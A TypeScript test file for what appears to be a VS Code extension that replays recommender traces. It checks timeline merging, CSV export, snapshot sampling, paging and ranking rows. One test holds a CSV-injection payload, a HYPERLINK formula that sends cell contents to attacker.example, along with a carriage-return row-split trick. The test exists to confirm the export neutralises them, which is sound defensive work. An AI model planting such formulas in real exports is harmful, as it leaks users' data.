import './setup';
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { MAX_TAIL_POINTS, buildCsv, capTail, mergeTail, unionX, type Tail } from '../../media/timelineData';
import type { LaneData } from '../../src/shared/webview';
import { sampleOnGrid, snapshotValue, pointValues } from '../../src/extension/timeline/sessionSource';
import { eventSummary, visibleLines, MAX_DECORATED_LINES } from '../../src/extension/debug/eventDecorations';
import { MAX_SNAPSHOTS, ReplaySession, markerOf, thinned } from '../../src/extension/debug/sessions';
import type * as vscode from 'vscode';
import type { MetricsEventBody } from '../../src/shared/dap';
import { runFolderName, runSummary } from '../../src/extension/commands/reports';
import { pageRanges, featureSummary, featureSummarySteps, windowLabel } from '../../src/extension/slices/summaries';
import { RECORDS_PER_STEP } from '../../src/core/steps';
import { DisposableStore } from '../../src/extension/disposables';
import { candidateOf, deltaArrow, parseValue } from '../../src/extension/views/rankingTree';

const A: LaneData = { id: 'a', label: 'A', dashed: true, x: [2, 4], bucketSize: 2, series: { ctr: { v: [0.1, 0.2], lo: [0, 0.1], hi: [0.2, 0.3] } }, faultMask: [0, 1] };
const B: LaneData = { id: 'b', label: 'B', dashed: false, x: [2, 4], bucketSize: 2, series: { ctr: { v: [0.3, 0.4], lo: [0.3, 0.4], hi: [0.3, 0.4] } }, faultMask: [0, 0] };

test('lanes and the live tail align on one x axis; gaps stay null', () => {
  const tail: Tail = { x: [5, 6], series: new Map([['ctr', [0.5, null]]]) };
  const xs = unionX([A], new Map([['a', tail]]));
  assert.deepEqual(xs, [2, 4, 5, 6]);
  const m = mergeTail(A, tail, xs);
  assert.deepEqual(m.series['ctr']?.v, [0.1, 0.2, 0.5, null]);
  assert.deepEqual(m.faultMask, [0, 1, 0, 0]);
});

test('CSV export: visible series of every lane within the zoom, with ranges per event', () => {
  const csv = buildCsv([A, B], [2, 4], ['ctr', 'hit_rate'], [3, 10], 'event');
  assert.equal(csv, 'event,A: CTR,A: CTR (min),A: CTR (max),B: CTR,B: CTR (min),B: CTR (max)\n4,0.2,0.1,0.3,0.4,0.4,0.4\n');
  assert.equal(buildCsv([A], [2, 4], ['ctr'], null, 'cumulative'), 'event,CTR\n2,0.1\n4,0.2\n');
});

test('CSV header cells from lane labels (trace folder names) are text in a spreadsheet: no formula, no row split by a carriage return', () => {
  const evil = { ...A, label: '=HYPERLINK("https://attacker.example/?"&A2,"open")' };
  // A folder named "run\r=1+1": the carriage return started a row whose first cell was a formula.
  const cr = { ...B, label: 'B: run\r=1+1 (linear)' };
  const [head] = buildCsv([evil, cr], [2, 4], ['ctr'], null, 'cumulative').split('\n');
  assert.equal(head, 'event,"\'=HYPERLINK(""https://attacker.example/?""&A2,""open""): CTR","B: run\r=1+1 (linear): CTR"');
});

test('CSV latency columns say what they are: the stage, the unit, and p99 for running values', () => {
  const L = { ...A, series: { 'latency.score': { v: [40, 50], lo: [30, 45], hi: [60, 55] }, 'latency.total': { v: [90, 100], lo: [80, 95], hi: [120, 105] } } } as typeof A;
  assert.equal(buildCsv([L], [2, 4], ['latency.total', 'latency.score'], null, 'cumulative'), 'event,latency total p99 (ms),latency score p99 (ms)\n2,90,40\n4,100,50\n');
  assert.match(buildCsv([L], [2, 4], ['latency.score'], null, 'event').split('\n')[0] ?? '', /^event,latency score \(ms\),latency score \(ms\) \(min\),latency score \(ms\) \(max\)$/);
});

test('snapshot keys map to series (with @k), sampled onto the adapter\'s bucket grid', () => {
  const snap = { 'hit_rate@10': 0.5, 'coverage@10': 0.2, 'latency.score.p99': 40, 'latency.score.p50': 10, ctr: 0.1 };
  assert.equal(snapshotValue(snap, 'hit_rate'), 0.5);
  assert.equal(snapshotValue(snap, 'latency.score'), 40);
  assert.equal(snapshotValue(snap, 'gini_exposure'), null);
  const samples = new Map([
    [3, { 'coverage@10': 0.1 }],
    [5, { 'coverage@10': 0.3 }],
    [12, { 'coverage@10': 0.4 }],
  ]);
  const s = sampleOnGrid(samples, [{ from: 1, to: 6 }, { from: 7, to: 10 }, { from: 11, to: 14 }], 'coverage');
  assert.deepEqual(s, { v: [0.3, null, 0.4], lo: [0.1, null, 0.4], hi: [0.3, null, 0.4] });
  const pv = pointValues({ event: 1, values: { hit: 1, rr: 0.5, ndcg: 0.6, ild: null, novelty: 3, overlap: 0.8, kendallTau: 0.2, fallback: 0, clicks: 1, impressions: 10, ctr: 0.1, latencyTotalMs: 50, queueDepth: 7, cacheHitRate: null } });
  assert.equal(pv['ctr'], 0.1);
  // The event's own queue depth and cache hit rate (null: it recorded no cache figures).
  assert.equal(pv['queue_depth'], 7);
  assert.equal(pv['cache_hit_rate'], null);
  assert.equal(pv['diversity'], null);
  assert.equal(pv['latency.total'], 50);
});

test('editor decorations: the served top 3 and clicks of a line, and never more lines than fit', () => {
  assert.equal(eventSummary('{"id":"e1","served":["a","b","c","d"],"outcome":{"clicks":["b"]}}'), 'served a b c … · clicked b');
  assert.equal(eventSummary('{"id":"e1","served":[]}'), 'served — · no click');
  assert.equal(eventSummary('not json'), undefined);
  const lines = visibleLines([{ start: { line: 0 }, end: { line: 10_000_000 } }]);
  assert.equal(lines.length, MAX_DECORATED_LINES);
  assert.deepEqual(visibleLines([{ start: { line: 3 }, end: { line: 4 } }, { start: { line: 9 }, end: { line: 9 } }]), [3, 4, 9]);
});

test('stops become timeline markers only for hits, not for steps', () => {
  const base = { state: 'stopped' as const, event: 7, eventId: 'e7', t: '', stagesDone: 6, stage: 'outcome', eventCount: 9, eventsPath: '/s/events.jsonl', highWater: 7 };
  assert.equal(markerOf({ ...base, reason: 'step' }), undefined);
  assert.equal(markerOf({ ...base, state: 'running' }), undefined);
  assert.deepEqual(markerOf({ ...base, reason: 'breakpoint', hitBreakpointIds: [3] }), { event: 7, kind: 'breakpoint', label: 'breakpoint 3 at event 7 (e7)' });
  assert.equal(markerOf({ ...base, reason: 'exception', fault: 'nan_score' })?.label, 'exception: nan_score at event 7 (e7)');
});

test('run folders sort by time and say what ran; the summary names metrics and faults', () => {
  assert.equal(runFolderName('cold-start', 'linear:examples/rankers/cold-start-linear.json', new Date(2025, 6, 21, 9, 12, 3)), 'cold-start-linear-cold-start-linear-20250721-091203');
  assert.equal(runFolderName('x', 'recorded', new Date(2025, 0, 2, 3, 4, 5)), 'x-recorded-20250102-030405');
  const s = runSummary('cold-start', { type: 'done', events: 650, metrics: { 'hit_rate@10': 0.25, ctr: 0.05, 'latency.score.p99': 20 }, faults: { over_budget: 3, nan_score: 0 }, trace: '/t', runRecord: '/r', modified: [], traceSha256: 'x' });
  assert.equal(s, 'cold-start: replayed 650 events — hit_rate@10 0.25, ctr 0.05; faults: over_budget ×3.');
});

test('paging: ranges of pageSize^j events, never more than pageSize children', () => {
  assert.deepEqual(pageRanges(1, 5, 10), [[1, 1], [2, 2], [3, 3], [4, 4], [5, 5]]);
  assert.deepEqual(pageRanges(1, 25, 10), [[1, 10], [11, 20], [21, 25]]);
  const big = pageRanges(1, 1_000_000, 200);
  assert.ok(big.length <= 200);
  assert.deepEqual(big[0], [1, 40_000]);
  assert.deepEqual(big.at(-1), [960_001, 1_000_000]);
  assert.deepEqual(pageRanges(101, 150, 10), [[101, 110], [111, 120], [121, 130], [131, 140], [141, 150]]);
  assert.equal(windowLabel('2025-07-21T08:00:31Z', '2025-07-22T01:00:00Z'), '2025-07-21 08:00:31 – 2025-07-22 01:00:00');
  assert.deepEqual(featureSummary([{ features: { a: 1, s: 'x', b: true } }, { features: { a: 3, s: 'x', b: false } }, {}]), [
    { name: 'a', text: 'min 1 · mean 2 · max 3 · 1 missing' },
    { name: 'b', text: '50% true · 1 missing' },
    { name: 's', text: '1 values: x (2) · 1 missing' },
  ]);
});

test('a disposal scope disposes in reverse, survives a failing item, and disposes late additions at once', () => {
  const order: string[] = [];
  const errors: unknown[] = [];
  const s = new DisposableStore((e) => errors.push(e));
  s.add({ dispose: () => order.push('a') });
  s.add({ dispose: () => { throw new Error('boom'); } });
  s.add({ dispose: () => order.push('c') });
  s.dispose();
  assert.deepEqual(order, ['c', 'a']);
  assert.equal(errors.length, 1);
  s.add({ dispose: () => order.push('late') });
  assert.deepEqual(order, ['c', 'a', 'late']);
});

test('ranking rows: DAP values read back, arrows for moves', () => {
  assert.equal(parseValue('0.82'), 0.82);
  assert.equal(parseValue('false'), false);
  assert.equal(parseValue('null'), null);
  assert.equal(parseValue('"i_42"'), 'i_42');
  assert.ok(Number.isNaN(parseValue('NaN')));
  const c = candidateOf(2, [
    { name: 'item', value: '"i_42"', variablesReference: 0 },
    { name: 'score', value: '0.5', variablesReference: 0 },
    { name: 'rank', value: '2', variablesReference: 0 },
    { name: 'recordedRank', value: '5', variablesReference: 0 },
    { name: 'rankDelta', value: '3', variablesReference: 0 },
    { name: 'served', value: '2', variablesReference: 0 },
    { name: 'clicked', value: 'true', variablesReference: 0 },
    { name: 'features', value: '4 features', variablesReference: 17 },
  ]);
  assert.deepEqual(c, { place: 2, item: 'i_42', score: 0.5, rank: 2, recordedRank: 5, delta: 3, served: 2, clicked: true, featuresRef: 17 });
  assert.equal(deltaArrow(3), '▲3');
  assert.equal(deltaArrow(-1), '▼1');
  assert.equal(deltaArrow(0), '=');
});

test('a live tail keeps at most MAX_TAIL_POINTS, dropping the oldest, every series alike', () => {
  const t: Tail = { x: [], series: new Map([['hit', []], ['ctr', []]]) };
  for (let n = 1; n <= 100; n++) {
    t.x.push(n);
    t.series.get('hit')?.push(n % 2);
    t.series.get('ctr')?.push(n % 3 ? n / 100 : null);
    capTail(t, 40);
  }
  assert.ok(t.x.length <= 40 && t.x.length >= 30, String(t.x.length));
  assert.equal(t.x.at(-1), 100, 'the newest point is kept');
  for (const arr of t.series.values()) assert.equal(arr.length, t.x.length);
  const first = t.x[0] as number;
  assert.equal(t.series.get('hit')?.[0], first % 2, 'values stay with their x');
  assert.equal(t.series.get('ctr')?.[0], first % 3 ? first / 100 : null);
  assert.equal(MAX_TAIL_POINTS, 20_000);
});

test('a session keeps a bounded number of metric snapshots per lane: thinning keeps the first, the latest and every other one', () => {
  const m = new Map<number, Record<string, number>>();
  for (let e = 1; e <= 9; e++) m.set(e, { events: e });
  const t = thinned(m);
  assert.deepEqual([...t.keys()], [1, 3, 5, 7, 9]);
  m.set(10, { events: 10 });
  assert.deepEqual([...thinned(m).keys()], [1, 3, 5, 7, 9, 10], 'the latest stays');
  assert.equal(t.get(5)?.['events'], 5);
  assert.ok(MAX_SNAPSHOTS >= 4000, 'more than the timeline has buckets');
});

test('a session that runs long keeps at most MAX_SNAPSHOTS snapshots per lane, the latest among them', () => {
  const rs = new ReplaySession({ configuration: {} } as unknown as vscode.DebugSession);
  for (let n = 1; n <= MAX_SNAPSHOTS * 2 + 5; n++) rs.onMetrics({ lane: 'replay', through: n, points: [], cumulative: { events: n } } as unknown as MetricsEventBody);
  const kept = rs.snapshots.get('replay');
  assert.ok(kept && kept.size <= MAX_SNAPSHOTS, String(kept?.size));
  assert.equal(kept?.get(MAX_SNAPSHOTS * 2 + 5)?.['events'], MAX_SNAPSHOTS * 2 + 5);
  assert.ok(kept.has(1));
});

test('the feature summary of a large catalogue is worked out a slice at a time (a turn of the event loop between slices), and says what it says at once', () => {
  const records = Array.from({ length: 3 * RECORDS_PER_STEP }, (_, i) => ({ features: { price: i % 100, label: `l${i % 3}`, fresh: i % 2 === 0 } }));
  const steps = featureSummarySteps(records, { price: 'number', label: 'string', fresh: 'boolean' });
  let pauses = 0;
  let r = steps.next();
  for (; !r.done; r = steps.next()) pauses++;
  assert.ok(pauses >= 3 * 3, `${pauses} pauses`);
  assert.deepEqual(r.value, featureSummary(records, { price: 'number', label: 'string', fresh: 'boolean' }));
});
